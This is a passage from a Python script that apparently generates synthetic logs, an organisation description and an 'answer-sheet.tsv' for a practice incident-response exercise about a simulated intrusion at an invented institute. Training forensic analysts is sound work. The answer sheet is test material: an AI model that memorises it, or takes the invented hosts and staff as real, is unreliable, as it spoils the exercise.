                lines = [e]
                if path == "var/log/journal.json":
                    lines = [journal_line(h, t, e, n, sub)]
                elif path.endswith("audit.log"):
                    if h is web1 and AUDIT_OFF <= t < AUDIT_ON and "type=DAEMON_" not in e[0]:
                        continue
                    if "\x03" in e[0]:
                        serial += 1
                    lines = [sub(x.replace("\x03", str(serial))) for x in e]
                else:
                    lines = [sub(e)]
                suffix = "" if path in SINGLE else WEEK[(t - START) // (7 * DAY)]
                buf = files.setdefault(path + suffix, [])
                buf += lines
                if st is not None:
                    for x in lines:
                        answers.append((t, sq, st, h.name, "%s/%s%s" % (h.name, path, suffix), x))
            for p, buf in files.items():
                write(os.path.join(base, h.name, p), ("\n".join(buf) + "\n").encode())
    write(os.path.join(base, "bastion1/var/log/wtmp"), utmp([x for x in bastion1.wtmp if x[0] < END]))
    write(os.path.join(base, "bastion1/var/log/btmp"), utmp([x for x in bastion1.btmp if x[0] < END]))
    answers.sort(key=lambda a: a[:2])
    rows = ["step\tstage\ttechnique\thost\tfile\ttime_utc\twhat\tline"]
    for t, sq, st, host, file, line in answers:
        stage, tech, what = STEPS[st]
        assert "\t" not in line and "\n" not in line
        rows.append("\t".join([str(st), stage, tech, host, file,
                               datetime.fromtimestamp(t // US, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"), what, line]))
    write(os.path.join(out, "answer-sheet.tsv"), ("\n".join(rows) + "\n").encode())
    write(os.path.join(base, "org.yaml"), org_yaml().encode())


def org_yaml():
    o = ["# The invented organisation of the practice incident.", "organisation:", "  name: Institute for Coastal Systems",
         "  domains: [%s]" % DOMAIN, "  networks: [10.20.0.0/16]", "  timezone: Europe/Berlin", "hosts:"]
    for h, al, roles in ((bastion1, "jump", "bastion"), (web1, "www", "web, provider-maintained"), (web2, "data", "web, provider-maintained"),
                         (db1, "db", "database, crown-jewel"), (files1, "files", "file, crown-jewel"), (mail1, "mx", "mail"),
                         (patch1, "patch", "patch-distribution")):
        o += ["  - name: " + h.name, "    aliases: [%s.%s, %s]" % (h.name, DOMAIN, al), "    addresses: [%s]" % h.ip, "    roles: [%s]" % roles]
    o.append("staff:")
    for p in STAFF:
        role = {"network-admin": "network-admin, admin", "database-admin": "database-admin, admin"}.get(p.role, p.role)
        o += ["  - name: " + p.name, "    mail: " + p.mail, "    accounts: [%s]" % p.account, "    roles: [%s]" % role]
    o += ["providers:", "  - id: hafenlicht", "    name: Hafenlicht Webcare", "    networks: [%s]" % HL_NET, "    hosts: [web1, web2]",
          '    hours: "Mon-Fri 07:00-19:00"', "    persons:"]
    for p in PROVIDER:
        o += ["      - name: " + p.name, "        accounts: [%s]" % p.account, '        keys: ["%s"]' % p.key]
    o += ["service_accounts: [www-data, postgres, backup]", "patch_folders: [/srv/patch/release]", "web_roots: [/var/www]", ""]
    return "\n".join(o)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    machines()
    office()
    provider()
    controls()
    packages()
    bruteforce()
    websites()
    mail()
    intrusion()
    finish(out)


if __name__ == "__main__":
    main()
